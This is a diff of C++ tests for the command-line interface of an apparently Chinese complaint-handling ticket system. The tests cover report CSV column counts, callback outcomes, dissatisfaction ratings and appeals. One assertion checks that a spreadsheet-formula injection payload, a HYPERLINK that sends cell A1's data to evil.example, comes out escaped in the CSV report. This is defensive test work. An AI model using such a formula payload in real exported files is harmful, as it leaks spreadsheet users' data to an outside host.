@@ -866,7 +866,7 @@ TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
   CliRun mine = cli({"report", "--format", "csv"}, housing);
   ASSERT_EQ(mine.exit_code, 0) << mine.err;
   const std::vector<std::string> total = CsvRow(mine.out, "total,housing,");
-  ASSERT_EQ(total.size(), 43u) << mine.out;
+  ASSERT_EQ(total.size(), 47u) << mine.out;
   EXPECT_EQ(total[2], "1") << mine.out;   // received: ticket 1 is housing's
   EXPECT_EQ(total[12], "1") << mine.out;  // returns: ticket 2
   CliRun zh = cli({"report", "--format", "zh"}, housing);
@@ -877,17 +877,90 @@ TEST(CliRehearsal, DefaultsComeFromTheServersClock) {
   ASSERT_EQ(all.exit_code, 0) << all.err;
   const std::vector<std::string> row =
       CsvRow(all.out, "department,departments/housing,");
-  ASSERT_EQ(row.size(), 43u) << all.out;
+  ASSERT_EQ(row.size(), 47u) << all.out;
   EXPECT_EQ(row[12], "1") << all.out;
   const std::vector<std::string> nobody =
       CsvRow(all.out, "department,(not dispatched),");
-  ASSERT_EQ(nobody.size(), 43u) << all.out;
+  ASSERT_EQ(nobody.size(), 47u) << all.out;
   EXPECT_EQ(nobody[2], "1") << all.out;   // ticket 2, returned
   EXPECT_EQ(nobody[12], "0") << all.out;  // the return is housing's
   EXPECT_TRUE(absl::StrContains(all.out,
                                 "\ntopic,\"'=HYPERLINK(\"\"http://evil.example/"
                                 "?q=\"\"&A1,\"\"x\"\")\",1,"))
       << all.out;
+}
+
+// Callbacks (回访) and an appeal (申诉) from the command line: three missed
+// calls close one ticket as unreachable; another is rated dissatisfied
+// with reasons, housing appeals and the bureau sets the rating aside; the
+// report counts both.
+TEST_F(CliTest, CallbacksAndAnAppealFromTheCommandLine) {
+  ASSERT_EQ(Cli({"department", "create", "housing", "--display_name", "住建局"})
+                .exit_code,
+            0);
+  const std::string housing =
+      SecretOf(Cli({"token", "create", "department/housing", "--json"}));
+  ASSERT_FALSE(housing.empty());
+  for (int i = 1; i <= 2; ++i) {
+    ASSERT_EQ(Cli({"ticket", "create", "--type", "complaint", "--topic", "噪音",
+                   "--title", "夜间施工", "--content", "每晚", "--dispatch_to",
+                   "housing"})
+                  .exit_code,
+              0);
+    const std::string n = std::to_string(i);
+    ASSERT_EQ(Cli({"ticket", "ack", n}, housing).exit_code, 0);
+    ASSERT_EQ(
+        Cli({"ticket", "reply", n, "--outcome", "resolved", "--text", "已处理"},
+            housing)
+            .exit_code,
+        0);
+  }
+  EXPECT_EQ(Cli({"ticket", "callback", "1", "--channel", "fax", "--result",
+                 "reached"})
+                .exit_code,
+            2);
+  CliRun call;
+  for (const char* result : {"unreachable", "refused", "unreachable"}) {
+    call = Cli({"ticket", "callback", "1", "--channel", "phone", "--result",
+                result, "--note", "无人接听"});
+    ASSERT_EQ(call.exit_code, 0) << call.err;
+  }
+  EXPECT_TRUE(absl::StrContains(call.out, "CLOSED")) << call.out;
+  EXPECT_TRUE(absl::StrContains(call.out, "none: the caller was not reached"))
+      << call.out;
+  ASSERT_EQ(Cli({"ticket", "callback", "2", "--channel", "sms", "--result",
+                 "reached"})
+                .exit_code,
+            0);
+  CliRun closed = Cli({"ticket", "close", "2", "--satisfaction", "dissatisfied",
+                       "--reasons", "problem_unsolved"});
+  ASSERT_EQ(closed.exit_code, 0) << closed.err;
+  EXPECT_TRUE(absl::StrContains(closed.out, "DISSATISFIED: PROBLEM_UNSOLVED"))
+      << closed.out;
+  CliRun appealed =
+      Cli({"ticket", "appeal", "2", "--grounds", "诉求超出政策规定"}, housing);
+  ASSERT_EQ(appealed.exit_code, 0) << appealed.err;
+  EXPECT_TRUE(absl::StrContains(appealed.out, "PENDING: 诉求超出政策规定"))
+      << appealed.out;
+  EXPECT_EQ(
+      Cli({"ticket", "decide-appeal", "2", "--verdict", "maybe"}).exit_code, 2);
+  CliRun upheld = Cli({"ticket", "decide-appeal", "2", "--verdict", "upheld",
+                       "--note", "不合理差评"});
+  ASSERT_EQ(upheld.exit_code, 0) << upheld.err;
+  EXPECT_TRUE(absl::StrContains(upheld.out, "UPHELD")) << upheld.out;
+  CliRun csv = Cli({"report", "--format", "csv"});
+  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "callbacks_unreachable"),
+            "1")
+      << csv.out;
+  EXPECT_EQ(CsvCell(csv.out, "departments/housing", "appeals_upheld"), "1")
+      << csv.out;
+  EXPECT_EQ(
+      CsvCell(csv.out, "departments/housing", "satisfaction_rate_percent"), "")
+      << csv.out;
+  CliRun zh = Cli({"report", "--format", "zh"});
+  EXPECT_TRUE(
+      absl::StrContains(zh.out, ",回访未果1件,差评申诉1件,其中不合理差评1件。"))
+      << zh.out;
 }
 
 // The bureau's reply review (办结审核) from the command line, under a policy
